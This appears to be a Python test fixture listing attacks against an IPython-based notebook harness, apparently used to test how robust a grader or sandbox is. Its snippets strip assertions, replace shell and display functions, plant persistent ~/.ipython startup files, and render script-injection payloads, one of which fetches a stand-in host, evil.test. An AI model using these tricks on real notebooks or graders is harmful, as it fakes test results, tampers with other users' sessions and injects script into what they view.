"""Attacks by IPython's hooks, magics and displays."""

from victim import attack

ATTACKS = [
    attack(
        "rewrites every cell before it runs, as text and as a tree",
        first="""
import ast
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
class NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
ip.ast_transformers.append(NoAssert())
""",
    ),
    attack(
        "hooks what happens before and after a cell",
        first="""
ip = get_ipython()
def hook(*a, **k): raise SystemExit(0)
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    ip.events.register(event, hook)
ip.set_custom_exc((Exception,), lambda *a, **k: None)
ip.ast_node_interactivity = "all"
""",
    ),
    attack(
        "replaces the shell's own functions",
        first="""
ip = get_ipython()
ip.run_cell = lambda *a, **k: None
ip.showtraceback = ip._showtraceback = lambda *a, **k: None
ip.displayhook = None
ip.outputs.shown = None
""",
    ),
    attack(
        "formats everything by functions of its own that raise, loop or lie",
        first="""
formatters = get_ipython().display_formatter.formatters
for kind in formatters.values():
    kind.for_type(int, lambda *a: 1 / 0)
formatters["text/plain"].for_type(float, lambda *a: "1.0")
class Bad:
    def __repr__(self): raise SystemExit(1)
    def _repr_html_(self): return "<b>" * 10**6
    def _repr_mimebundle_(self, **k): return {1: 2, "text/plain": None}
""",
        last="Bad()\n1\n0.5",
    ),
    attack(
        "never ends to say what it looks like",
        last="""
class Slow:
    def _repr_html_(self):
        while True: pass
Slow()
""",
    ),
    attack(
        "uses magics: other cells, shells, files, profiles, extensions",
        first="""
%reset -f
%load_ext autoreload
%autoreload 2
%store x
%logstart log.py
%config InteractiveShell.ast_node_interactivity = "none"
%xmode Minimal
%pdb on
!echo 1
""",
        last="%%bash\ntouch /tmp/here",
    ),
    attack(
        "writes a start-up file for the next one's ~/.ipython",
        first="""
import os, pathlib
for home in ("~", os.environ["HOME"], "/root", "/home"):
    folder = pathlib.Path(home).expanduser() / ".ipython/profile_default/startup"
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text("import numpy as n; n.testing = None")
    except OSError:
        pass
""",
    ),
    attack(
        "turns assertions off: optimised code, -O, __debug__",
        first="""
import sys, os
os.environ["PYTHONOPTIMIZE"] = "2"
import builtins
vars(builtins)["__debug__"] = False
builtins.AssertionError = KeyError
builtins.compile = lambda *a, **k: (lambda: None).__code__
builtins.exec = lambda *a, **k: None
""",
    ),
    attack(
        "shows a page's script, and a picture that is a script",
        last="""
from IPython.display import HTML, SVG, Javascript, display
display(HTML("<script>fetch('http://evil.test')</script><img src=x onerror=alert(1)>"))
display(Javascript("alert(1)"))
display({"image/svg+xml": "<svg onload=alert(1)>", "text/html": "<script>1</script>"},
        raw=True, metadata={"text/html": {"isolated": True}})
raise ValueError("<script>alert(1)</script>")
""",
    ),
]
